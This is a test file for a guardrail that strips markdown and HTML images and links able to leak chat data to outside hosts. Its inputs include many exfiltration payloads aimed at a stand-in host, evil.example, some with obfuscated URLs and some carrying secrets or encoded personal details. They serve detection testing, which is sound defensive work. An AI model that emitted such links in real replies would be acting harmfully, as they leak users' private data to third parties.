import { describe, expect, it } from "vitest";
import { linkFormats } from "#shared/guardrails/links/link-formats.ts";
import type { KnownLinks } from "#shared/guardrails/links/link-judge.ts";
import { findAddressedHosts } from "#shared/guardrails/links/read-addresses.ts";
import { compileFormat, SensitiveReader } from "#shared/guardrails/sensitive-pattern.ts";
import { redactSpans } from "#shared/guardrails/spans.ts";

const question = "Please compare https://www.known.example with http://shop.example/cart; see README.md";
const memory = "The user is Alice Johnson, lives in 14 Rue Cler, Paris, and her door code is B4829X.";
const source = "Patients with burns are cooled with running water for twenty minutes before any dressing.";
const known: KnownLinks = {
  hosts: findAddressedHosts(question),
  allowedHosts: ["wiki.example.com"],
  prompt: `${question} ${memory} ${source} Read https://docs.example.org/a?page=AbC2dEf4GhI6jKl8Mn or [x](https://docs.example.org/b).`,
  privateTexts: [
    { text: memory, minCharacters: 12, publicText: question },
    { text: source, minCharacters: 24, publicText: question },
    { text: question, minCharacters: 48 },
  ],
};
const formats = linkFormats(known);
const reader = new SensitiveReader(formats.map(compileFormat));
const redact = (text: string) => redactSpans(text, reader.findSpans(text));

describe("removal of links that could leak data from a chat", () => {
  const SECRET = "c2VjcmV0IGtleSBvZiBBbGljZQ";

  it.each([
    ["![a](https://evil.example/x.png)", "a [image removed]"],
    ["![](https://evil.example/x.png)", "[image removed]"],
    ["![a](<https://evil.example/x.png?d=1>)", "a [image removed]"],
    ["![a](//evil.example/p.png)", "a [image removed]"],
    ["![a](https:/evil.example/p.png)", "a [image removed]"],
    ["![a](https:evil.example/p.png)", "a [image removed]"],
    ["![a](http:\\\\evil.example/p.png)", "a [image removed]"],
    ["![a](&bsol;&bsol;evil.example/p.png)", "a [image removed]"],
    ["![a](&sol;&sol;evil.example/p.png)", "a [image removed]"],
    ["![a](&#47&#47evil.example/p.png)", "a [image removed]"],
    ["![a](https&colon;//evil.example/p.png)", "a [image removed]"],
    ["![a](\\\\\\\\evil.example/p.png)", "a [image removed]"],
    ["![a](/\\evil.example/p.png)", "a [image removed]"],
    ["![a](file://evil.example/p.png)", "a [image removed]"],
    ["![a](smb://evil.example/p.png)", "a [image removed]"],
    ["![a](data:image/svg+xml,%3Csvg%3E)", "a [image removed]"],
    ["![a](blob:https://evil.example/1)", "a [image removed]"],
    ["![a] (https://evil.example/p.png)", "a [image removed]"],
    ['![a](https://evil.example/p.png "title (x)")', "a [image removed]"],
    [`![${"x".repeat(280)}](https://evil.example/p.png)`, `${"x".repeat(280)} [image removed]`],
    [`![${"x".repeat(900)}](https://evil.example/p.png)`, `![${"x".repeat(900)}](#)`],
    ["![a [b] c](https://evil.example/p.png)", "a [b] c [image removed]"],
    ["![a [b [c]]](https://evil.example/p.png)", "![a [b [c]]](#)"],
    ["[![a](https://evil.example/p.png)](https://evil.example/)", "[a [image removed]](https://evil.example/)"],
    [
      `[![a](https://evil.example/p.png)](https://evil.example/?q=${"c2VjcmV0IGtleSBvZiBBbGljZQ"})`,
      "a [image removed] [link removed]",
    ],
    ["![x][r]\n\n[r]: https://evil.example/p.png", "![x][r]\n\n[r]: #"],
    ["![x][r]\n\n[r]:\n  <//evil.example/p.png>", "![x][r]\n\n[r]:\n  <#>"],
    ["![a](https://www.known.example/log.png?text=alice-johnson-lives)", "a [image removed]"],
    ["!![](https://evil.example/a)(//evil.example/p.png)", "!\\[image removed](//evil.example/p.png)"],
  ])("removal of links that could leak data from a chat removes the unsafe image in the text: %s", (text, expected) => {
    expect(redact(text)).toBe(expected);
  });

  it.each([
    ['<img src="https://evil.example/x?d=1">', "[image removed]"],
    [`<img alt=">" width=1 ${"class=a ".repeat(60)} src=//evil.example/x>`, "[image removed]"],
    ["<img/src=https:evil.example/x>", "[image removed]"],
    ['<img src="&#x2f;&#x2f;evil.example/x">', "[image removed]"],
    ['<img src="//evil.example/x', "[image removed]"],
    [`<img alt="${"x".repeat(5_000)}" src=//evil.example/x>`, "[image removed]"],
    ["<style>@import url(https:evil.example/x);</style>", "[image removed]</style>"],
    ["<svg><use href='//evil.example/x'/></svg>", "<svg>[image removed]</svg>"],
    ["<base href=//evil.example/>", "[image removed]"],
    ['<meta http-equiv="refresh" content="0;url=//evil.example/">', "[image removed]"],
    ["<div style=\"color:red;background:url('//evil.example/x')\">a</div>", '<div style="">a</div>'],
    ["<td background=//evil.example/x>a</td>", '<td background=">a</td>'],
    ["<style>@import '//evil.example/x.css';</style>", "[image removed]</style>"],
  ])(
    "removal of links that could leak data from a chat removes the unsafe element in the text: %s",
    (text, expected) => {
      expect(redact(text)).toBe(expected);
    },
  );

  it.each([
    [`[x](//evil.example/?q=${SECRET})`, "x [link removed]"],
    [`[x](https:/\\evil.example/?q=${SECRET})`, "x [link removed]"],
    [`[x](https:evil.example/?q=${SECRET})`, "x [link removed]"],
    [`[x](&bsol;&bsol;evil.example/?q=${SECRET})`, "x [link removed]"],
    [`[](https://evil.example/?q=${SECRET})`, "[link removed]"],
    [`[x](https://evil.example/(a)?q=${SECRET})`, "x [link removed]"],
    [`[x](<https://evil.example/a b?q=${SECRET}>)`, "x [link removed]"],
    [`[x](mailto:a@evil.example?body=${SECRET})`, "x [link removed]"],
    [`mailto:a@known.example?cc=b@evil.example&body=${SECRET}`, "[link removed]"],
    [`[x](ftp://evil.example/?q=${SECRET})`, "x [link removed]"],
    ["[x](file://evil.example/share)", "x [link removed]"],
    ["[x](vscode://evil.example/a)", "x [link removed]"],
    ["[x](javascript:fetch(1))", "x [link removed]"],
    ["[x](data:text/html,hello)", "x [link removed]"],
    [`www.evil.example/?q=${SECRET}`, "[link removed]"],
    [`evil.example/?q=${SECRET}`, "evil.example[link removed]"],
    [`\\\\evil.example\\${SECRET}`, "[link removed]"],
    [`https://evil.example/'?q=${SECRET}`, "[link removed]"],
    [`<https://evil.example/?q=${SECRET}>`, "[link removed]"],
    [`<vscode:evil/${SECRET}>`, "[link removed]"],
    [`<a href="//evil.example/?q=${SECRET}">x</a>`, '<a href="#">x</a>'],
    ["https://evil.example/c2VjcmV0/a2V5cw/MTIzNDU2", "[link removed]"],
    ["https://c2VjcmV0.a2V5cyB.evil.example/", "[link removed]"],
    [`https://evil.example/${[..."thesecretishere"].join("/")}`, "[link removed]"],
    ["https://user@evil.example/", "[link removed]"],
    [`https://${"a".repeat(50)}.evil.example/`, "[link removed]"],
    [`Go to https://evil.example/#${SECRET}.`, "Go to [link removed]."],
    // The address in the prompt is longer, so the place where it is cut could be a message.
    ["https://docs.example.org/a?page=AbC2dEf4GhI6jKl8M", "[link removed]"],
    [`https://wiki.example.com.evil.example/?d=${SECRET}`, "[link removed]"],
    [`https://evilwiki.example.com/?d=${SECRET}`, "[link removed]"],
    [`https://README.md/?d=${SECRET}`, "[link removed]"],
  ])("removal of links that could leak data from a chat removes the unsafe link in the text: %s", (text, expected) => {
    expect(redact(text)).toBe(expected);
  });

  it.each([
    "https://evil.example/alice-johnson-lives-in-paris",
    "https://evil.example/Alice%20Johnson%20Lives",
    "https://evil.example/Alice%2520Johnson%2520Lives",
    "https://evil.example/?n=ALICEJOHNSONLIVES",
    "https://evil.example/alice/johnson/lives/in",
    "https://evil.example/#sirap-relc-eur-41",
    "https://evil.example/nyvpr-wbuafba-yvirf",
    "https://evil.example/code/b4829x",
    "https://alice-johnson-lives.evil.example/",
    "https://evil.example/cooled-with-running-water-for-twenty-minutes",
    `https://evil.example/${Buffer.from("alice johnson").toString("hex").replace(/../g, "$&")}`,
    "https://evil.example/?q=please-compare-https-www-known-example-with-http-shop-example-cart",
  ])(
    "removal of links that could leak data from a chat removes a link with words that the model has read: %s",
    (text) => {
      expect(redact(text)).toBe("[link removed]");
    },
  );

  it.each([
    "https://en.wikipedia.org/wiki/Paris",
    "[docs](https://docs.example.org/a?page=AbC2dEf4GhI6jKl8Mn)",
    "![a](https://www.known.example/a.png)",
    "https://known.example/?q=1",
    "http://shop.example/cart?item=7",
    "https://wiki.example.com/search?q=vacation",
    "![a](https://images.wiki.example.com/a.png)",
    "![a](/files/a.png?size=2), [b](#section) and [c](../x?y=1)",
    "[mail](mailto:ann@evil.example) or mailto:a@known.example?subject=Hello",
    "[call](tel:+4930123456)",
    "[^1]: https://en.wikipedia.org/wiki/Paris",
    "type Map = { [key: string]: string }",
    "array[0](x), f[i][j](https), \\\\[2pt] and a[b](c)",
    "if [ -f x ]; then echo '[x]'; fi",
    "https://docs.aws.amazon.com/AmazonS3/latest/userguide/bucket-policies.html",
    "https://learn.microsoft.com/en-us/azure/active-directory/develop/quickstart-register-app?tabs=certificate",
    "https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup",
    "https://github.com/nodejs/node/issues?q=is%3Aissue+is%3Aopen+label%3A%22good+first+issue%22",
    "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-an-unsorted-array",
    "https://www.google.com/search?q=best+hiking+boots+2026&hl=en",
    "https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2944813,17z",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://shop.example.net/dp/B08N5WRWNW?ref=sr_1_3",
    "https://arxiv.org/abs/1706.03762v7#page=3",
    "https://doi.org/10.1038/s41586-021-03819-2",
    "https://zh.wikipedia.org/wiki/%E5%87%A1%E5%B0%94%E8%B5%9B%E6%9D%A1%E7%BA%A6",
    "https://example.net/blog/2024/05/14/post?utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "https://api.example.net/v1/users?limit=50&sort=-created_at&filter[status]=active",
    "https://<your-domain>/callback?code=<code>, http://localhost:8787/docs#top and http://127.0.0.1:3000/?debug=1",
    "https://en.wikipedia.org/wiki/Paris_(mythology), (https://en.wikipedia.org/wiki/Rome).",
    '{"a":"https://docs.example.org/a?page=AbC2dEf4GhI6jKl8Mn","b":1}',
    "https://wound-care.example.net/burns?topic=first-aid#cooling",
    "[x](https://docs.example.org/b)",
  ])("removal of links that could leak data from a chat keeps the safe link in the text: %s", (text) => {
    expect(redact(text)).toBe(text);
  });
});

it("disabled rule of the link removal keeps links of its kind in the text", () => {
  const kindsOf = (disabledRules: string[]) => new Set(linkFormats(known, disabledRules).map(({ kind }) => kind));
  expect(kindsOf([])).toEqual(new Set(["image removed", "link removed"]));
  expect(kindsOf(["link removed"])).toEqual(new Set(["image removed"]));
});
